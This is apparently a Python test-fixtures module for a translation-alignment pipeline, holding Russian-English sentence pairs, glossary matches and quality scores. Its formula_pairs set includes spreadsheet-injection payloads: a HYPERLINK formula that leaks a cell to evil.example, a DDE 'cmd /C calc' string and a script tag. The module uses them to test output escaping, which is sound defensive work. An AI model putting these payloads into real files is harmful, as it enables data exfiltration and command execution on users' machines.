"""Realistic review fixtures: a Russian article with its English translation, and two English sources.

The Russian sentences carry the seed's terminology problems («цепочка» for
blockchain, «ИИ», «Корея жунганг Daily»); the glossary matches say what was
applied and what was left alone (one decision below the glossary's confidence);
one sentence is untranslated and one has an unverified term. Cross-source
pairs link the English articles (and one Russian sentence) that say the same
thing. Translation pairs carry the model's confidence and a quality estimate,
cross-source pairs their margin, and the quality flags are spread over them.
:func:`formula_pairs` holds texts a spreadsheet would run as formulas.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from pipeline.corpus import AlignedPair
from pipeline.models import Document, Sentence, TermMatch

RU = "000_korea_ru"
EN_A = "002_investors_en"
EN_B = "003_industry_en"

# (source sentence, translation, translation_status, sentence flags)
RU_SENTENCES = [
    ("Корейские инвесторы проявляют большой интерес к технологии цепочки.",
     "Korean investors show great interest in blockchain technology.", "translated", ("glossary-applied",)),
    ("По данным Корея жунганг Daily, рынок ИИ растёт на 20% в год.",
     "According to the Korea JoongAng Daily, the AI market grows by 20% a year.", "translated", ("glossary-applied",)),
    ("Цепочка поставок при этом остаётся устойчивой.",
     "The supply chain remains resilient.", "tm", ()),
    ("Евразийский экономический союз (ЕАЭС) расширяет сотрудничество с Сеулом.",
     "", "untranslated", ()),
    ("Участники обсудили создание цепочки для торгового финансирования.",
     "The participants discussed creating a chain for trade finance.", "translated", ("glossary-applied", "unverified")),
    ("Это предложение машина перевела очень плохо.",
     "This offer the machine has translated very badly.", "translated", ()),
]
SCORES = [0.91, 0.86, 0.74, 0.0, 0.58, 0.31]
MT_CONFIDENCE = [-0.21, -0.45, -0.38, None, -0.83, -1.92]
QUALITY = [0.88, 0.74, 0.69, None, 0.47, 0.21]
QUALITY_FLAGS = [(), (), (), (), ("length-mismatch",), ("low-confidence", "untranslated-words")]

CROSS_SCORES = (0.78, 0.83, 0.42)
CROSS_MARGINS = (1.21, 1.15, 1.06)
CROSS_FLAGS = (("duplicate",), (), ("misaligned",))

EN_A_SENTENCES = [
    "Korean investors are pouring money into blockchain start-ups.",
    "The Fourth Industrial Revolution is reshaping Asian economies.",
    'Analysts warn that a <script>alert("x")</script> tag & "quotes" </script><!-- must stay text.',
]
EN_B_SENTENCES = [
    "Investors from South Korea are backing blockchain companies.",
    "Asia's economies are being transformed by the fourth industrial revolution.",
    "A rocket 🚀 launch preceded the blockchain summit, see https://example.org/summit for details.",
]


def documents(*, with_terms: bool = False) -> list[Document]:
    """The three documents; ``with_terms`` puts :func:`matches` on the Russian sentences as ``TermMatch`` records."""
    terms: dict[int, list[TermMatch]] = {}
    for m in matches() if with_terms else ():
        terms.setdefault(m["sent_idx"], []).append(TermMatch(
            entry=m["entry"], start=0, end=len(m["matched"]), matched=m["matched"], action=m["action"],
            reason=m.get("reason", ""), confidence=m.get("confidence"), needs_review=m.get("needs_review", False),
            target_term=m["target_term"], note=m["note"], target_check=m.get("target_check", ""),
        ))
    ru = Document(
        doc_id=RU, path="000_korea_ru.txt", sha256="0" * 64, title="Корейские инвесторы и блокчейн", lang="ru",
        source_url="https://example.org/ru/korea",
        sentences=tuple(
            Sentence(doc_id=RU, sent_idx=i, para_idx=0, start=0, end=len(src), text=src, lang="ru",
                     translation=tgt, translation_status=status, flags=flags, terms=tuple(terms.get(i, ())))
            for i, (src, tgt, status, flags) in enumerate(RU_SENTENCES)
        ),
    )
    docs = [ru]
    for doc_id, title, sents in ((EN_A, "Investors bet on Korea", EN_A_SENTENCES), (EN_B, "Industry 4.0 in Asia", EN_B_SENTENCES)):
        docs.append(Document(
            doc_id=doc_id, path=f"{doc_id}.txt", sha256="1" * 64, title=title, lang="en",
            sentences=tuple(
                Sentence(doc_id=doc_id, sent_idx=i, para_idx=0, start=0, end=len(t), text=t, lang="en",
                         translation_status="passthrough")
                for i, t in enumerate(sents)
            ),
        ))
    return docs


def pairs() -> tuple[AlignedPair, ...]:
    out = []
    for i, ((src, tgt, status, flags), score) in enumerate(zip(RU_SENTENCES, SCORES)):
        pair_flags = tuple(f for f in flags if f != "glossary-applied") + (("untranslated",) if status == "untranslated" else ())
        if score < 0.5:
            pair_flags += ("low-score",)
        out.append(AlignedPair(
            pair_id=f"t{i:04d}", kind="translation", src_doc=RU, src_ids=(i,), src_lang="ru", src_text=src,
            tgt_doc=RU, tgt_ids=(i,), tgt_lang="en", tgt_text=tgt, score=score, flags=pair_flags + QUALITY_FLAGS[i],
            mt_confidence=MT_CONFIDENCE[i], quality=QUALITY[i],
        ))
    for i, (a, b, score, margin, flags) in enumerate(
        zip(EN_A_SENTENCES, EN_B_SENTENCES, CROSS_SCORES, CROSS_MARGINS, CROSS_FLAGS)
    ):
        out.append(AlignedPair(
            pair_id=f"x{i:04d}", kind="cross-source", src_doc=EN_A, src_ids=(i,), src_lang="en", src_text=a,
            tgt_doc=EN_B, tgt_ids=(i,), tgt_lang="en", tgt_text=b, score=score, margin=margin, flags=flags,
        ))
    out.append(AlignedPair(
        pair_id="x0003", kind="cross-source", src_doc=RU, src_ids=(0, 1), src_lang="ru",
        src_text=RU_SENTENCES[0][0] + " " + RU_SENTENCES[1][0], tgt_doc=EN_A, tgt_ids=(0,), tgt_lang="en",
        tgt_text=EN_A_SENTENCES[0], score=0.66, margin=1.12,
    ))
    return tuple(out)


FORMULA_DOC = "004_formulas_ru"
FORMULA_SENTENCES = [
    # (source, translation, score): cells a spreadsheet would run, a negative score, a leading apostrophe
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")', '=HYPERLINK("http://evil.example/?leak="&A1,"Details")', 0.83),
    ("-5 °C ожидается в Москве в пятницу.", "-5 °C is expected in Moscow on Friday.", 0.88),
    ("@CoinDesk сообщает о росте на 7%.", "@CoinDesk reports a 7% rise.", 0.79),
    ("+7% за квартал, -2+3+cmd|' /C calc'!A0", "+7% in the quarter, -2+3+cmd|' /C calc'!A0", -0.0312),
    ("'=Уже с апострофом.", "'=Already quoted.", 0.61),
]


def formula_pairs() -> tuple[AlignedPair, ...]:
    """Translation pairs whose cells start with ``=``, ``+``, ``-``, ``@`` or ``'=``; one has a negative score."""
    return tuple(
        AlignedPair(
            pair_id=f"f{i:04d}", kind="translation", src_doc=FORMULA_DOC, src_ids=(i,), src_lang="ru", src_text=src,
            tgt_doc=FORMULA_DOC, tgt_ids=(i,), tgt_lang="en", tgt_text=tgt, score=score,
            flags=("low-score",) if score < 0.5 else (), mt_confidence=-0.5 - i / 10, quality=max(score, 0.0),
        )
        for i, (src, tgt, score) in enumerate(FORMULA_SENTENCES)
    )


def matches() -> list[dict]:
    """Glossary match records as the glossary stage reports them (dict form)."""
    return [
        {"doc_id": RU, "sent_idx": 0, "entry": "blockchain", "matched": "цепочки", "action": "apply",
         "target_term": "blockchain", "note": "«цепочка» is the article's rendering of 'blockchain'", "target_check": "ok"},
        {"doc_id": RU, "sent_idx": 1, "entry": "joongang", "matched": "Корея жунганг Daily", "action": "apply",
         "target_term": "Korea JoongAng Daily", "note": "Newspaper name, transliterated wrongly"},
        {"doc_id": RU, "sent_idx": 1, "entry": "ai", "matched": "ИИ", "action": "apply",
         "target_term": "AI", "note": "Artificial intelligence", "confidence": 0.55, "needs_review": True},
        {"doc_id": RU, "sent_idx": 2, "entry": "blockchain", "matched": "Цепочка", "action": "skip",
         "target_term": "blockchain", "note": "«цепочка» is the article's rendering of 'blockchain'",
         "reason": "followed by «поставок»: supply chain"},
        {"doc_id": RU, "sent_idx": 4, "entry": "blockchain", "matched": "цепочки", "action": "apply",
         "target_term": "blockchain", "note": "«цепочка» is the article's rendering of 'blockchain'",
         "target_check": "unverified"},
    ]


@dataclass(frozen=True)
class MatchRecord:
    """A match as an object with attributes, the other form the glossary stage may hand over."""

    doc_id: str
    sent_idx: int
    entry: str
    matched: str
    action: str
    target_term: str
    note: str


MANY_FLAGS = ("low-confidence", "length-mismatch", "untranslated-words", "misaligned", "duplicate")


def many_pairs(n: int, seed: int = 7) -> tuple[AlignedPair, ...]:
    """``n`` pairs built from the fixture sentences, mixed kinds, language pairs, scores and quality values."""
    rng = random.Random(seed)
    out = []
    for i in range(n):
        score = round(rng.random(), 4)
        flags = (MANY_FLAGS[rng.randrange(len(MANY_FLAGS))],) if rng.random() < 0.2 else ()
        if i % 3:
            src, tgt, _status, _flags = RU_SENTENCES[i % len(RU_SENTENCES)]
            kind, sl, tl, sd, td = "translation", "ru", "en", f"ru{i // 200:03d}", f"ru{i // 200:03d}"
            values = {"mt_confidence": round(-3 * rng.random(), 4), "quality": round(rng.random(), 4)}
        else:
            src, tgt = EN_A_SENTENCES[i % 2], EN_B_SENTENCES[i % 2]
            kind, sl, tl, sd, td = "cross-source", "en", "en", f"ena{i // 300:03d}", f"enb{i // 300:03d}"
            values = {"margin": round(1 + rng.random() / 2, 4)}
        out.append(AlignedPair(
            pair_id=f"p{i:05d}", kind=kind, src_doc=sd, src_ids=(i,), src_lang=sl, src_text=f"{src} [{i}]",
            tgt_doc=td, tgt_ids=(i,), tgt_lang=tl, tgt_text=f"{tgt} [{i}]", score=score, flags=flags, **values,
        ))
    return tuple(out)
